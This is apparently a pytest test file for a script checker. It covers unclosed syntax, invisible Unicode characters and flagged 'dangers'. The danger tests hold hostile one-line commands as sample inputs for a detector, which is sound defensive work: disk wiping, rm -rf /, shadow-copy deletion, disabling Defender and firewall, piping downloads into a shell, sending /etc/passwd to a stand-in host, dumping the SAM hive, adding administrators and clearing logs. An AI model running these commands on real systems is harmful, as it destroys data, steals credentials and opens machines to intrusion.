"""What the editor and the cards may say of a script: hidden characters, dangers, possible problems."""

import subprocess
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flowpilot.ai import library
from flowpilot.web.unseen import IN_CODE, visible
from script_builder.checks import MAX_FINDINGS, Finding, Kind, check, shell
from script_builder.models import Language

LANGUAGES = Language.values


def said(text, language, kind):
    return [(one.line, one.sentence) for one in check(text, language) if one.kind == kind]


@pytest.mark.parametrize(
    ("language", "text", "line"),
    [
        ("powershell", "if ($a) {\n  'x'\n", 1),
        ("powershell", "'a'\n)", 2),
        ("powershell", '"never', 1),
        ("powershell", "$a = @'text\n'@\n", 1),
        ("powershell", "$a = @'\ntext\n  '@\n", 1),
        ("powershell", "\n<# never", 2),
        ("bash", "if true; then\n  echo\n", 1),
        ("bash", "cd $1\n", 1),
        ("python", "a = 1\nif a:\nb()\n", 3),
        ("python", "a = {{ x }} b\n", 1),
        ("batch", "if a (\n    goto b\n)\n", 2),
        ("batch", ":a\n:A\n", 2),
        ("batch", "if a (\n", 1),
        ("batch", ")\n", 1),
        ("batch", 'set "a=b\n', 1),
        ("batch", "if a (\n    echo (b)\n)\n", 2),
    ],
)
def test_a_possible_problem_is_named_with_its_line(language, text, line):
    assert line in [number for number, _ in said(text, language, Kind.PROBLEM)]


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("powershell", "param([string]$A = {{ a }})\nif ($A) { 'it''s {' } # don't\n@'\nit's (\n'@\n"),
        ("powershell", '"a`"b{ $(Get-Item "c") ""\n"; ${a b}\n'),
        ("bash", 'set -- {{ a }} "$@"\nif {{ b }}; then echo "$1"; fi\n[[ -z {{ c }} ]] || set -- -c {{ c }} "$@"\n'),
        ("python", "print({{ x }}, [{{ y }}])\nmatch {{ x }}:\n    case 'a':\n        pass\n"),
        ("batch", 'if a (\n    goto :eof\n) else (\n    call :b {{ x }}\n)\n:b\necho a ^) (b) > c.txt\nrem "\n'),
        ("batch", '>>"a" echo(b\ngoto %1\n'),
    ],
)
def test_a_script_with_nothing_wrong_has_no_problem(language, text):
    assert said(text, language, Kind.PROBLEM) == []


@pytest.mark.parametrize(
    ("language", "text", "words"),
    [
        ("powershell", "Clear-Disk -Number 1", "erases a disk"),
        ("batch", "format d: /q", "erases a disk"),
        ("bash", "sudo mkfs.ext4 /dev/sdb1", "erases a disk"),
        ("bash", "dd if=/dev/zero of=/dev/sda", "erases a disk"),
        ("bash", "rm -rf /", "top of a drive"),
        ("bash", 'rm -r -f "$HOME"', "top of a drive"),
        ("powershell", "Remove-Item C:\\ -Recurse", "top of a drive"),
        ("batch", "rd /s /q C:\\", "top of a drive"),
        ("batch", "vssadmin delete shadows /all", "shadow copies"),
        ("powershell", "Get-WmiObject Win32_ShadowCopy |\n  ForEach-Object { $_.Delete() }", "shadow copies"),
        ("batch", "bcdedit /set {default} recoveryenabled No", "shadow copies"),
        ("powershell", "Set-MpPreference `\n  -DisableRealtimeMonitoring $true", "protection off"),
        ("batch", "netsh advfirewall set allprofiles state off", "protection off"),
        ("batch", "sc stop WinDefend", "protection off"),
        ("bash", "setenforce 0", "protection off"),
        ("powershell", "iwr https://x.example/a.ps1 | iex", "runs it unseen"),
        ("powershell", "IEX (New-Object Net.WebClient).DownloadString('http://x')", "runs it unseen"),
        ("bash", "curl -fsSL https://x.example/i.sh | sudo bash", "runs it unseen"),
        ("bash", "bash <(curl -s https://x.example)", "runs it unseen"),
        ("batch", "certutil -urlcache -f http://x a.exe", "runs it unseen"),
        ("batch", "powershell -nop -enc SQBFAFgAIABhAGIAYwBkAGUA", "nobody can read"),
        ("bash", "echo aGk= | base64 -d | sh", "nobody can read"),
        ("python", "exec(base64.b64decode('aGk='))", "nobody can read"),
        ("bash", "curl -d @/etc/passwd https://x.example", "sends data"),
        ("powershell", "Invoke-RestMethod -Uri $u -Method Post -Body $b", "sends data"),
        ("python", "requests.post(url, data=data)", "sends data"),
        ("bash", "exec 3<>/dev/tcp/10.0.0.1/80", "sends data"),
        ("batch", "reg save hklm\\sam sam.hiv", "passwords"),
        ("batch", "net localgroup administrators j.doe /add", "administrator rights"),
        ("batch", "wevtutil cl System", "clears logs"),
        ("powershell", "Restart-Computer -Force", "shuts it down"),
        ("bash", "eval {{ command }}", "filled in"),
        ("powershell", "Invoke-Expression {{ command }}", "filled in"),
    ],
)
def test_a_danger_is_named(language, text, words):
    found = said(f"\n{text}\n", language, Kind.DANGER)
    assert any(line == 2 and words in sentence for line, sentence in found)


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("powershell", "# Clear-Disk\n<# iwr x | iex\nFormat-Volume #>\nFormat-Table -Property A; Get-Date -Format s"),
        ("powershell", "Remove-Item C:\\Temp\\x -Recurse; Invoke-RestMethod https://api.example/health"),
        ("powershell", "New-SmbMapping -LocalPath P: -RemotePath \\\\a\\b"),
        ("bash", 'rm -rf "$tmp/x" ./build /var/tmp/a\ncurl -fsS https://x.example >a\n# mkfs'),
        ("bash", 'printf "%s" "$evaluate"; bash -c "ls"; echo shutdown'),
        ("python", "# exec(base64)\nprint('format d')\nexecute({{ x }})"),
        ("batch", 'rem format c:\n:: vssadmin delete\nnet use P: /delete & del "C:\\Temp\\a.txt" & echo %DATE:~0,2%'),
    ],
)
def test_what_only_looks_like_one_is_none(language, text):
    assert said(text, language, Kind.DANGER) == []


@pytest.mark.parametrize("key", library.templates())
def test_the_librarys_own_scripts_are_quiet(key):
    template = library.templates()[key]
    assert [one for one in check(template.script, template.language) if one.kind != Kind.DANGER] == []
    assert [one.sentence for one in check(template.script, template.language)] == []


@pytest.mark.parametrize(
    ("character", "words"),
    [
        ("\u202e", "turns the text's direction around"),
        ("\u2066", "turns the text's direction around"),
        ("\u200b", "An invisible character: ZERO WIDTH SPACE (U+200B)"),
        ("\ufeff", "An invisible character"),
        ("\u00ad", "An invisible character: SOFT HYPHEN"),
        ("\u3164", "An invisible character: HANGUL FILLER"),
        ("\U000e0041", "An invisible character"),
        ("\u200d", "An invisible character"),
        ("\xa0", "A space that the language does not take for one: NO-BREAK SPACE"),
        ("\u2028", "A line break"),
        ("\x1b", "A control character: without a name (U+001B)"),
        ("\r", "A control character"),
    ],
)
def test_what_cannot_be_seen_is_named_and_made_visible(character, words):
    text = f"a\nb{character}c{character}\n"
    ((line, sentence),) = said(text, "python", Kind.HIDDEN)
    assert line == 2 and words in sentence
    code = f"⟨U+{ord(character):04X}⟩"
    assert visible(text, IN_CODE) == f"a\nb{code}c{code}\n"


@pytest.mark.parametrize("text", ["Grüße 日本語 💾 👨\u200d👩\u200d👧 ❤\ufe0f ’“”—\tа\n", ""])
def test_what_can_be_seen_is_left_alone(text):
    assert said(text, "batch", Kind.HIDDEN) == []
    assert visible(text) == text


def test_findings_stand_by_line_and_end_somewhere():
    text = "x\u200b\n" * 100
    found = check(text, "batch")
    assert len(found) == MAX_FINDINGS + 1
    assert found == sorted(found, key=lambda one: one.line)
    assert found[-1] == Finding(41, Kind.PROBLEM, "And 60 more from here on.")


class TestWithoutShellCheck:
    @pytest.fixture(autouse=True)
    def gone(self, monkeypatch):
        monkeypatch.setattr(shell, "program", lambda: None)

    def test_what_is_never_closed_is_still_found(self):
        assert said("echo\necho 'a\n", "bash", Kind.PROBLEM) == [
            (2, "Possible problem: single quotes begins here and never ends.")
        ]
        assert said("cd $1\n", "bash", Kind.PROBLEM) == []


def test_shellcheck_follows_no_file_that_a_script_names(tmp_path):
    other = tmp_path / "other.sh"
    other.write_text("secret=words\nif\n")
    text = f"# shellcheck source={other}\n. {other}\necho a\n"
    assert not [sentence for _, sentence in said(text, "bash", Kind.PROBLEM) if "secret" in sentence]


def test_a_check_that_does_not_end_is_given_up(monkeypatch, tmp_path):
    slow = tmp_path / "shellcheck"
    slow.write_text("#!/bin/sh\nexec sleep 60\n")
    slow.chmod(0o755)
    monkeypatch.setattr(shell, "program", lambda: str(slow))
    monkeypatch.setattr(shell, "SECONDS", 0.2)
    assert said("echo this is not cached\n", "bash", Kind.PROBLEM) == [(1, "The script could not be checked in time.")]


@pytest.mark.parametrize("language", LANGUAGES)
@settings(deadline=None, max_examples=100)
@given(text=st.text(st.characters(exclude_categories=[]), max_size=120))
def test_any_text_is_checked(language, text):
    with pytest.MonkeyPatch.context() as patched:
        patched.setattr(shell, "program", lambda: None)
        for one in check(text, language):
            assert 1 <= one.line <= text.count("\n") + 2
            assert one.sentence.endswith((".", ")"))
    assert visible(visible(text, IN_CODE), IN_CODE) == visible(text, IN_CODE)


PIECES = [
    "curl ",
    "iex ",
    "rm ",
    "(",
    "'",
    '"',
    "@'\n",
    "<#",
    "goto a\n",
    ":a\n",
    "|",
    "`\n",
    "\\\n",
    "\u200b",
    " ",
    "-",
    "a.",
]
TIMED = """
import sys, time, django; django.setup()
from script_builder.checks import check, shell
from script_builder.scripts import MAX_LENGTH
from tests.script_builder.test_checks import PIECES
shell.program = lambda: None
for piece in PIECES:
    text = (piece * MAX_LENGTH)[:MAX_LENGTH]
    began = time.process_time()
    check(text, sys.argv[1])
    assert time.process_time() - began < 4, (piece, time.process_time() - began)
"""


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_longest_script_is_checked_in_bounded_time(language):
    done = subprocess.run([sys.executable, "-c", TIMED, language], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr[-2000:]
